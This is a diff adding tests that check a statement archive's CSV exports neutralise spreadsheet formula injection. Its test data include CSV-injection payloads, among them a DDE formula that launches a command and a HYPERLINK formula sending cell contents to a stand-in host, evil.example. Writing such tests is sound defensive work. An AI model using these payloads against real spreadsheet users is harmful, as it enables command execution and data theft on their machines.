@@ -192,3 +192,58 @@ def test_speaker_filter_on_the_api(countries, store_url):
             r = c.get("/api/statements", params={"speaker": bad})
             assert r.status_code == 400 and "speaker filter" in r.json()["detail"]
         assert c.get("/search", params={"speaker": "???"}).status_code == 400
+
+
+# ---- CSV exports open safely in spreadsheets ------------------------------------------
+
+FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def record_formulas():
+    from conftest_pg import _rec
+
+    text = "Formula page\n\n" + " ".join(f"Evil Person said {f}." for f in FORMULAS)
+    evil = {"id": "evil-person", "name": "=Evil Person", "role": "@admin", "aliases": []}
+    return _rec(text.replace("Evil Person said", "=Evil Person said"),
+                path="/archive/formulas.txt", title="=HYPERLINK(\"http://evil.example\")",
+                published="2021-01-01", speakers=[evil],
+                atts=[("indirect", f, "said", "=Evil Person", "evil-person", None)
+                      for f in FORMULAS])
+
+
+def test_csv_export_neutralises_formulas(tmp_path):
+    from onrecord.cli import app
+
+    db = str(tmp_path / "f.db")
+    s = open_store(db)
+    s.put(record_formulas())
+    s.close()
+    for what in ("statements", "documents", "speakers"):
+        out = tmp_path / f"{what}.csv"
+        r = CliRunner().invoke(app, ["export", "--format", "csv", "--what", what, "--out",
+                                     str(out), "--db", db])
+        assert r.exit_code == 0, r.output
+        rows = list(csv.reader(open(out, encoding="utf-8", newline="")))
+        assert len(rows) > 1
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
+    rows = list(csv.DictReader(open(tmp_path / "statements.csv", encoding="utf-8", newline="")))
+    assert sorted(r["content"] for r in rows) == sorted("'" + f for f in FORMULAS)
+    assert {r["speaker_name"] for r in rows} == {"'=Evil Person"}
+    assert all(r["start_offset"].isdigit() for r in rows)  # numbers stay numbers
+
+
+def test_network_csv_neutralises_formulas():
+    from onrecord.events.cross import network_csv
+
+    rec = record_formulas().to_dict()
+    rec["speakers"].append({"id": "+target", "name": "-Target", "type": "person",
+                            "mentions": [], "aliases": []})
+    rec["attributions"][0]["addressee"] = {"id": "+target", "name": "-Target"}
+    rows = list(csv.reader(io.StringIO(network_csv([rec]))))
+    assert len(rows) > 1
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
